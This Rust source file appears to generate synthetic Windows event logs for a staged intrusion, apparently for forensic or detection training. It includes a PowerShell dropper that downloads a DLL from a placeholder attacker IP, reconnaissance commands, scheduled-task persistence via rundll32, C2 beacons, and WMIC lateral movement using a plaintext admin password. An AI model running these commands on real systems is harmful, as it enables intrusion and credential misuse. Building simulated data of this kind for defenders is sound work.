//! The attack on LAPTOP-7F2K, from Zoom's start to the share on the file server. What lured the
//! user fell into the time without Sysmon, so no record of step 2 exists.

use super::cast::{ADMIN, INTRUDER_PORT, MLOPEZ, REMOTE_COMMAND, WMI_PORTS, WORKSTATION};
use super::clock::at;
use super::encode;
use super::programs as p;
use super::residents::Residents;
use super::stage::{Act, ProcId, Stage};
use super::windows_logs::{
    ScriptPart, command_ran, console_starts, script_block, task_ran, task_registered,
};

const TEMP: &str = r"C:\Users\mlopez\AppData\Local\Temp";
const TASK: &str = r"\ZoomCrashCheck";
const C2: (&str, &str, u16) = ("telemetry.zcrash.test", "203.0.113.44", 443);
const FILE_SERVER: (&str, &str, u16) = ("FS01.contoso.example", "10.20.0.21", 445);

/// The processes of the attack that others need.
#[derive(Debug)]
pub(crate) struct Planted {
    pub(crate) zoom: ProcId,
    pub(crate) powershell: ProcId,
    /// Zoom's other interpreter, which only 4688 tells of.
    pub(crate) probe: ProcId,
    /// The command that names the other host.
    pub(crate) wmic: ProcId,
    /// Who made the task, and what the task ran.
    pub(crate) task: (ProcId, ProcId),
}

pub(crate) fn tell(stage: &mut Stage, residents: &Residents) -> Planted {
    let zoom = meeting(stage, residents);
    let probe = probe(stage, zoom);
    let powershell = foothold(stage, zoom);
    reconnaissance(stage, powershell);
    let task = persistence(stage, residents, powershell);
    remote_access(stage, residents, powershell);
    let wmic = lateral_movement(stage, residents, powershell);
    stage.step(None);
    Planted { zoom, powershell, probe, wmic, task }
}

fn meeting(stage: &mut Stage, residents: &Residents) -> ProcId {
    stage.step(Some(1));
    let command = format!(
        "\"{}\" \"--url=zoommtg://zoom.example/join?action=join&confno=95512004417&zc=0&browser=msedge\"",
        p::ZOOM.path
    );
    let start = at(13, 41, 52_033);
    let zoom = stage.start(residents.explorer, start, 9184, &p::ZOOM, &command);
    stage.end(zoom, at(15, 3, 40_612));
    stage.change(zoom, |process| {
        r"C:\Users\mlopez\AppData\Roaming\Zoom\bin\".clone_into(&mut process.directory);
    });
    stage.step(None);
    let command = format!("\"{}\" -pid 9184 -key 1", p::CPTHOST.path);
    let helper = stage.start(zoom, at(13, 44, 10_219), 10_432, &p::CPTHOST, &command);
    stage.end(helper, at(15, 3, 39_870));
    let servers =
        [("us04web.zoom.example", "192.0.2.150"), ("us04mmr.zoom.example", "192.0.2.161")];
    super::residents::chatter(stage, zoom, (start, at(15, 3, 0)), 240, &servers);
    for (minute, port) in [(42, 8801), (43, 8802), (58, 8801)] {
        let what = Act::Connect {
            udp: true,
            inbound: false,
            local_port: 54_210 + port - 8800,
            address: "192.0.2.161".to_owned(),
            name: "us04mmr.zoom.example".to_owned(),
            port,
        };
        stage.act(zoom, at(13, minute, 31_009), what);
    }
    stage.file(
        zoom,
        at(13, 42, 3_660),
        r"C:\Users\mlopez\AppData\Roaming\Zoom\data\zoomus.enc.db-journal",
    );
    zoom
}

/// A first try, while Sysmon was off: the security log alone has it.
fn probe(stage: &mut Stage, zoom: ProcId) -> ProcId {
    stage.step(Some(3));
    let command = r"C:\WINDOWS\system32\cmd.exe /c ver > %TEMP%\zv.txt";
    let probe = stage.start(zoom, at(14, 18, 49_267), 11_404, &p::CMD, command);
    stage.end(probe, at(14, 18, 49_391));
    stage.step(None);
    stage.console(probe, 11_420);
    probe
}

fn foothold(stage: &mut Stage, zoom: ProcId) -> ProcId {
    stage.step(Some(3));
    let start = at(14, 21, 7_412);
    let powershell = stage.start(zoom, start, 11_872, &p::POWERSHELL, &encode::command_line());
    stage.end(powershell, at(15, 2, 55_090));
    stage.step(None);
    stage.console(powershell, 11_888);
    stage.file(
        powershell,
        at(14, 21, 8_240),
        &format!(r"{TEMP}\__PSScriptPolicyTest_4ykz0wd3.q1c.ps1"),
    );

    for entry in console_starts(stage.process(powershell)) {
        stage.entry(entry);
    }
    stage.step(Some(4));
    let first = encode::first_layer();
    let blocks = [
        (8_310, 1, 1, 0x71c0_44d2_5b7e_4f0c_9d31_20aa_63e5_b801, first.as_str()),
        (8_655, 1, 1, 0x71c0_44d2_5b7e_4f0c_9d31_20aa_63e5_b802, encode::FINAL),
        // The third part never reached the log.
        (10_021, 1, 3, 0x2e9f_03ba_c6d8_4a17_8f52_7713_0cd4_11f7, PART_1),
        (10_024, 2, 3, 0x2e9f_03ba_c6d8_4a17_8f52_7713_0cd4_11f7, PART_2),
    ];
    for (millis, number, total, id, text) in blocks {
        let part = ScriptPart { number, total, id, text, path: "", suspicious: true };
        let entry = script_block(stage.process(powershell), at(14, 21, millis), &part);
        stage.entry(entry);
    }
    let payload = "CommandInvocation(New-Object): \"New-Object\"\r\n\
                   ParameterBinding(New-Object): name=\"TypeName\"; value=\"Net.WebClient\"\r\n";
    let entry = command_ran(stage.process(powershell), at(14, 21, 8_702), payload);
    stage.entry(entry);
    stage.connect(powershell, at(14, 21, 9_044), ("198.51.100.23", "198.51.100.23", 80));
    stage.connect(powershell, at(14, 21, 40_318), C2);
    stage.file(powershell, at(14, 21, 58_127), p::ZCRASH.path);
    stage.file(powershell, at(14, 21, 59_480), &format!(r"{TEMP}\zlist.txt"));
    powershell
}

const PART_1: &str = "# crash report helper\r\n\
    $ErrorActionPreference = 'SilentlyContinue'\r\n\
    $dir  = $env:TEMP\r\n\
    $name = 'ZoomCrashCheck'\r\n\
    function Get-Facts {\r\n\
    \x20   $out = cmd.exe /c 'whoami /all & net group \"Domain Admins\" /domain'\r\n\
    \x20   $out | Out-File (Join-Path $dir 'zlist.txt')\r\n\
    }\r\n";

const PART_2: &str = "function Get-Helper {\r\n\
    \x20   $to = Join-Path $dir 'zcrash.dll'\r\n\
    \x20   (New-Object Net.WebClient).DownloadFile('https://203.0.113.44/z', $to)\r\n\
    \x20   $to\r\n\
    }\r\n\
    $dll = Get-Helper\r\n\
    schtasks.exe /create /f /sc minute /mo 30 /tn $name /tr \"rundll32.exe $dll,Start\"\r\n";

fn reconnaissance(stage: &mut Stage, powershell: ProcId) {
    stage.step(Some(5));
    let command =
        r#""C:\WINDOWS\system32\cmd.exe" /c "whoami /all & net group "Domain Admins" /domain""#;
    let cmd = stage.start(powershell, at(14, 21, 31_180), 12_004, &p::CMD, command);
    stage.end(cmd, at(14, 21, 34_902));
    let whoami = stage.start(cmd, at(14, 21, 31_622), 12_016, &p::WHOAMI, "whoami  /all");
    stage.end(whoami, at(14, 21, 31_958));
    let command = "net  group \"Domain Admins\" /domain";
    let net = stage.start(cmd, at(14, 21, 33_071), 12_032, &p::NET, command);
    stage.end(net, at(14, 21, 34_866));
    let command = r#"C:\WINDOWS\system32\net1 group "Domain Admins" /domain"#;
    let helper = stage.start(net, at(14, 21, 33_140), 12_044, &p::NET1, command);
    stage.end(helper, at(14, 21, 34_810));
    let answer = "type:  33 dc01.contoso.example;10.20.0.10;";
    stage.lookup(net, at(14, 21, 33_102), "_ldap._tcp.dc._msdcs.contoso.example", answer);
}

fn task_xml() -> String {
    let sid = MLOPEZ.sid();
    let lines = [
        r#"<?xml version="1.0" encoding="UTF-16"?>"#.to_owned(),
        r#"<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">"#
            .to_owned(),
        "  <RegistrationInfo>".to_owned(),
        "    <Date>2026-04-12T15:22:15</Date>".to_owned(),
        r"    <Author>CONTOSO\mlopez</Author>".to_owned(),
        format!("    <URI>{TASK}</URI>"),
        "  </RegistrationInfo>".to_owned(),
        "  <Triggers>".to_owned(),
        "    <TimeTrigger>".to_owned(),
        "      <Repetition>".to_owned(),
        "        <Interval>PT30M</Interval>".to_owned(),
        "        <StopAtDurationEnd>false</StopAtDurationEnd>".to_owned(),
        "      </Repetition>".to_owned(),
        "      <StartBoundary>2026-04-12T15:22:15</StartBoundary>".to_owned(),
        "      <Enabled>true</Enabled>".to_owned(),
        "    </TimeTrigger>".to_owned(),
        "  </Triggers>".to_owned(),
        "  <Principals>".to_owned(),
        r#"    <Principal id="Author">"#.to_owned(),
        format!("      <UserId>{sid}</UserId>"),
        "      <LogonType>InteractiveToken</LogonType>".to_owned(),
        "      <RunLevel>LeastPrivilege</RunLevel>".to_owned(),
        "    </Principal>".to_owned(),
        "  </Principals>".to_owned(),
        "  <Settings>".to_owned(),
        "    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>".to_owned(),
        "    <DisallowStartIfOnBatteries>true</DisallowStartIfOnBatteries>".to_owned(),
        "    <Enabled>true</Enabled>".to_owned(),
        "  </Settings>".to_owned(),
        r#"  <Actions Context="Author">"#.to_owned(),
        "    <Exec>".to_owned(),
        "      <Command>rundll32.exe</Command>".to_owned(),
        format!("      <Arguments>{},Start</Arguments>", p::ZCRASH.path),
        "    </Exec>".to_owned(),
        "  </Actions>".to_owned(),
        "</Task>".to_owned(),
    ];
    lines.join("\r\n")
}

fn persistence(stage: &mut Stage, residents: &Residents, powershell: ProcId) -> (ProcId, ProcId) {
    stage.step(Some(6));
    let command = format!(
        r#""C:\WINDOWS\system32\schtasks.exe" /create /f /sc minute /mo 30 /tn ZoomCrashCheck /tr "rundll32.exe {},Start""#,
        p::ZCRASH.path
    );
    let schtasks = stage.start(powershell, at(14, 22, 15_024), 12_212, &p::SCHTASKS, &command);
    stage.end(schtasks, at(14, 22, 15_398));
    let (name, xml) = (TASK.to_owned(), task_xml());
    stage.act(schtasks, at(14, 22, 15_301), Act::Task { name, xml });
    stage.entry(task_registered(at(14, 22, 15_296), TASK, r"CONTOSO\mlopez"));
    let cache = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache";
    let id = "{6C3D0A51-98E2-4F7B-A1C5-0D2B7E94F3A8}";
    let path = format!(r"{cache}\Tree\ZoomCrashCheck");
    stage.act(residents.schedule, at(14, 22, 15_283), Act::Key { path });
    stage.set(
        residents.schedule,
        at(14, 22, 15_285),
        &format!(r"{cache}\Tree\ZoomCrashCheck\Id"),
        id,
    );
    stage.set(residents.schedule, at(14, 22, 15_288), &format!(r"{cache}\Tasks\{id}\Path"), TASK);
    stage.file(residents.schedule, at(14, 22, 15_280), r"C:\Windows\System32\Tasks\ZoomCrashCheck");

    // Half an hour later the task runs for the first time.
    let command = format!("rundll32.exe {},Start", p::ZCRASH.path);
    let by = (residents.schedule, &MLOPEZ);
    let again = stage.start_as(by, at(14, 52, 15_533), 13_020, &p::RUNDLL32, &command);
    for entry in task_ran(TASK, stage.process(again)) {
        stage.entry(entry);
    }
    stage.step(Some(7));
    beacons(stage, again, (14, 52, 17_260), 37);
    (schtasks, again)
}

/// A connection every 60 seconds.
fn beacons(stage: &mut Stage, who: ProcId, (hour, minute, millis): (i64, i64, i64), count: i64) {
    for beat in 0..count {
        let late = i64::from(stage.dice.between(0, 45));
        stage.connect(who, at(hour, minute + beat, millis + late), C2);
    }
}

fn remote_access(stage: &mut Stage, residents: &Residents, powershell: ProcId) {
    stage.step(Some(7));
    let command = format!(r#""C:\WINDOWS\system32\rundll32.exe" {},Start"#, p::ZCRASH.path);
    let rundll32 = stage.start(powershell, at(14, 22, 48_205), 12_380, &p::RUNDLL32, &command);
    let library = &p::ZCRASH;
    stage.act(rundll32, at(14, 22, 48_244), Act::Load { library, signed: false });
    stage.lookup(rundll32, at(14, 22, 49_871), C2.0, "::ffff:203.0.113.44;");
    beacons(stage, rundll32, (14, 22, 50_016), 61);
    stage.step(None);
    let (target, rights) = (residents.explorer, 0x1410);
    stage.act(rundll32, at(14, 26, 31_706), Act::Open { target, rights });
    stage.file(rundll32, at(14, 27, 4_551), &format!(r"{TEMP}\zc.dat"));
}

fn lateral_movement(stage: &mut Stage, residents: &Residents, powershell: ProcId) -> ProcId {
    stage.step(Some(8));
    let command = r#""C:\WINDOWS\system32\cmd.exe" /c "net use \\FS01\C$ /persistent:no""#;
    let cmd = stage.start(powershell, at(14, 29, 12_093), 12_656, &p::CMD, command);
    stage.end(cmd, at(14, 29, 13_604));
    let net =
        stage.start(cmd, at(14, 29, 12_480), 12_668, &p::NET, r"net  use \\FS01\C$ /persistent:no");
    stage.end(net, at(14, 29, 13_577));
    stage.lookup(net, at(14, 29, 12_533), FILE_SERVER.0, "10.20.0.21;");
    // The kernel's redirector opens the connection, not the program that asked for it.
    stage.connect(residents.kernel, at(14, 29, 12_561), FILE_SERVER);
    let server = FILE_SERVER.0.to_owned();
    let user = &ADMIN;
    stage.act(net, at(14, 29, 12_902), Act::Credentials { user, server });
    let what = Act::Connect {
        udp: false,
        inbound: false,
        local_port: INTRUDER_PORT,
        address: WORKSTATION.address.to_owned(),
        name: WORKSTATION.fqdn.to_owned(),
        port: 445,
    };
    stage.act(residents.kernel, at(14, 31, 39_410), what);
    remote_command(stage, powershell)
}

/// Over WMI, with the administrator's password: no share is needed to run a program there.
fn remote_command(stage: &mut Stage, powershell: ProcId) -> ProcId {
    let command = format!(
        r#""C:\WINDOWS\System32\Wbem\WMIC.exe" /node:{} /user:{} /password:Fjord-2026 process call create "{REMOTE_COMMAND}""#,
        WORKSTATION.name,
        ADMIN.full_name(),
    );
    let wmic = stage.start(powershell, at(14, 31, 36_118), 12_744, &p::WMIC, &command);
    stage.end(wmic, at(14, 31, 37_402));
    let answer = format!("{};", WORKSTATION.address);
    stage.lookup(wmic, at(14, 31, 36_240), WORKSTATION.fqdn, &answer);
    let what = Act::Connect {
        udp: false,
        inbound: false,
        local_port: WMI_PORTS.0,
        address: WORKSTATION.address.to_owned(),
        name: WORKSTATION.fqdn.to_owned(),
        port: WMI_PORTS.1,
    };
    stage.act(wmic, at(14, 31, 36_455), what);
    let (user, server) = (&ADMIN, WORKSTATION.fqdn.to_owned());
    stage.act(wmic, at(14, 31, 36_402), Act::Credentials { user, server });
    wmic
}
